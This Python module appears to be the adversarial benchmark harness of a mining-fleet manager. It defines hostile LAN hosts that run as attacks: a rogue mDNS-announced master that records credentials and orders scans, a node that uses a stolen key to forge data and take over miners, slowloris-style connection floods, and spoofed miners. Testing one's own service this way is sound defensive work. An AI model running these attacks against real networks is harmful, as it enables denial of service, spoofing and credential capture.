"""Hosts of a LAN that mean harm, each a program of its own: `python -m benchmarks.attackers NAME ...`.

Each goes on until its standard input is closed and then prints, as JSON, what came of it.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from typing import Any

import aiohttp
from aiohttp import web

from hived.records.times import to_text
from hived.simulator.miners import replies
from hived.simulator.miners.miner import SimulatedMiner
from hived.simulator.miners.models import MODELS
from tests import mdns, nodes

Attack = Callable[[argparse.Namespace, Counter[str]], Coroutine[Any, Any, None]]

ANNOUNCE_EVERY_S = 2.0
STATIC = "/static/vendor/uplot-1.6.32/uPlot.iife.min.js"
SECRETS = ("authorization", "x-api-key", "cookie")


async def master(args: argparse.Namespace, got: Counter[str]) -> None:
    """Announce a master, a new one or with the id of the true one, approve whoever asks and order what harms."""

    async def answer(request: web.Request) -> web.Response:
        body = await request.text()
        got[request.path] += 1
        got["secrets"] += any(name in request.headers for name in SECRETS) or "password" in body
        got["bytes"] += len(body)
        orders = [{"id": 1, "verb": "scan", "args": {"target": "203.0.113.0/24"}, "expires_in": 60}]
        documents: dict[str, Any] = {
            "/api/v1/hello": {"node_id": args.id, "role": "master", "name": "hq", "version": "9", "wire": 2},
            "/api/v1/join": {"status": "approved", "state": "approved", "node_id": args.id},
            "/api/v1/nodes/me/contact": {"orders": orders, "held": {}},
        }
        return web.json_response(documents.get(request.path, {}))

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, args.own, args.port).start()
    while True:
        packet = mdns.announcement("hq", args.own, port=args.port, id=args.id, role="master", path="/api/v1")
        mdns.send([packet], args.own)
        got["announced"] += 1
        await asyncio.sleep(ANNOUNCE_EVERY_S)


async def node(args: argparse.Namespace, got: Counter[str]) -> None:
    """As an approved node: rollups, events and take-overs of the miners of others, and thousands of invented ones."""
    trust = ssl.create_default_context()
    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    headers, macs = {"Authorization": f"Bearer {args.key}"}, args.macs.split(",")
    async with aiohttp.ClientSession(f"https://{args.target}:{args.port}", headers=headers) as http:

        async def send(stream: str, items: list[Any], first: int) -> None:
            batch = nodes.batch(args.id, stream, first, first + len(items) - 1, items)
            with suppress(aiohttp.ClientError, TimeoutError):
                async with http.post("/api/v1/ingest", json=batch, ssl=trust) as reply:
                    got[f"{stream}: {reply.status}"] += 1

        seq = 1
        while True:
            at = time.time()
            stolen = [{**nodes.miner(seq + n, n, at), "mac": mac} for n, mac in enumerate(macs)]
            invented = [nodes.miner(seq + n, n, at) for n in range(len(macs), 500)]
            await send("miners", stolen + invented, seq)
            slot = at // 300 * 300
            await send("rollups", [
                {**nodes.rollup(n, slot - 300 * back, n=10_000), "mac": mac, "hashrate_mean_hs": 6.66e17}
                for n, mac in enumerate(macs) for back in range(-12, 12)
            ], seq)  # fmt: skip
            await send("events", [{**nodes.event(seq + n, 0, at), "mac": mac} for n, mac in enumerate(macs)], seq)
            seq += 1000
            await asyncio.sleep(0.05)


async def slow(args: argparse.Namespace, got: Counter[str]) -> None:
    """Hold 512 connections, ask each for 400 files and read none."""
    request = f"GET {STATIC} HTTP/1.1\r\nHost: {args.target}:{args.port}\r\n\r\n".encode() * 400
    await _hold(args, got, 512, lambda writer: writer.write(request))


async def heads(args: argparse.Namespace, got: Counter[str]) -> None:
    """Hold 505 connections whose header never ends."""
    lines = "".join(f"x-{n}: {'a' * 8000}\r\n" for n in range(127))
    start = f"GET / HTTP/1.1\r\nHost: {args.target}:{args.port}\r\n{lines}".encode()
    await _hold(args, got, 505, lambda writer: writer.write(start))


async def _hold(
    args: argparse.Namespace, got: Counter[str], count: int, begin: Callable[[asyncio.StreamWriter], None]
) -> None:
    async def one() -> None:
        while True:
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout(10):
                    reader, writer = await asyncio.open_connection(args.target, args.port, limit=1)
                got["connected"] += 1
                try:
                    begin(writer)
                    writer.transport.pause_reading()  # type: ignore[attr-defined]
                    while not writer.transport.is_closing() and not reader.at_eof():
                        await asyncio.sleep(0.5)
                        writer.write(b"")
                finally:
                    writer.transport.abort()
            got["cut"] += 1
            await asyncio.sleep(0.2)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(one())


async def inventors(args: argparse.Namespace, got: Counter[str]) -> None:
    """Be 60 hosts that say in each answer that they are another miner of another model."""
    rigs = [
        SimulatedMiner(n, f"{args.own}.{args.first + n}", MODELS["s19"], seed=9, clock=time.time) for n in range(60)
    ]
    chance = random.Random(7)

    def of(rig: SimulatedMiner) -> Callable[[web.Request], Awaitable[web.Response]]:
        async def answer(request: web.Request) -> web.Response:
            got["asked"] += 1
            text = await request.text()
            got["passwords"] += '"pw"' in text
            got["keys"] += "x-api-key" in request.headers
            document = replies.info(rig)
            number = chance.randrange(1 << 40)
            document["model"] = f"model-{number % 5000}"
            document["fw_version"] = f"9.{number % 997}"
            document["system"]["network_status"]["mac"] = ":".join(f"{b:02X}" for b in b"\x02" + number.to_bytes(5))
            return web.json_response(document if request.path.endswith("/info") else {})

        return answer

    for rig in rigs:
        app = web.Application()
        app.router.add_route("*", "/{path:.*}", of(rig))
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        await web.TCPSite(runner, rig.ip, args.port).start()
    await asyncio.Event().wait()


async def visitor(args: argparse.Namespace, got: Counter[str]) -> None:
    """No harm meant: open the page and the list of miners once a second, as somebody at a desk does; milliseconds."""
    headers = {"Authorization": f"Bearer {args.key}"}
    each_time_anew = aiohttp.TCPConnector(force_close=True)
    async with aiohttp.ClientSession(
        f"http://{args.target}:{args.port}", headers=headers, connector=each_time_anew
    ) as http:
        while True:
            began = time.monotonic()
            try:
                async with asyncio.timeout(20):
                    for path in ("/", "/api/v1/fleet", "/api/miners"):
                        async with http.get(path) as reply:
                            await reply.read()
                            got[f"status {reply.status}"] += 1
                got[f"ms {(time.monotonic() - began) * 1e3:.0f}"] += 1
            except (aiohttp.ClientError, TimeoutError, OSError) as err:
                got[f"failed {type(err).__name__}"] += 1
            await asyncio.sleep(max(0.0, 1.0 - (time.monotonic() - began)))


ATTACKS: dict[str, Attack] = {one.__name__: one for one in (master, node, slow, heads, inventors, visitor)}


async def _run(args: argparse.Namespace) -> Counter[str]:
    got: Counter[str] = Counter(started=1)
    task = asyncio.create_task(ATTACKS[args.name](args, got))
    print("begun", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    if task.done() and (failure := task.exception()) is not None:
        got[f"ended by {failure!r} at {to_text(time.time())}"] += 1
    task.cancel()
    with suppress(asyncio.CancelledError, Exception):
        await task
    return got


def main() -> None:
    """Attack until standard input is closed."""
    parser = argparse.ArgumentParser(description=str(__doc__).partition("\n")[0])
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--own", default="", help="its own address, or the first three bytes of several")
    parser.add_argument("--first", type=int, default=1)
    parser.add_argument("--port", type=int, default=8080)
    parser.add_argument("--id", default="roguemaster")
    parser.add_argument("--target", default="")
    parser.add_argument("--key", default="")
    parser.add_argument("--macs", default="")
    print(json.dumps(asyncio.run(_run(parser.parse_args()))), flush=True)


if __name__ == "__main__":
    main()
